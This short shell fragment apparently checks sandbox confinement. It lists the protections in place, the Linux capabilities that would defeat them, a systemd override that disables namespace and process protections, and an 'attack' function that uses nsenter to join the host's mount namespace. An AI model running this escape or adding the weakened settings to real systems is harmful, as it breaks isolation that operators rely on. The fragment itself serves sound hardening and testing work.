# joins the mount namespace of the machine
wall='no capability; RestrictNamespaces; the cage shows no processes of others'
caps='sys_admin sys_ptrace sys_chroot dac_override'
open_unit=$'RestrictNamespaces=no\nProtectProc=default'
attack() { nsenter --mount=/proc/1/ns/mnt true; }
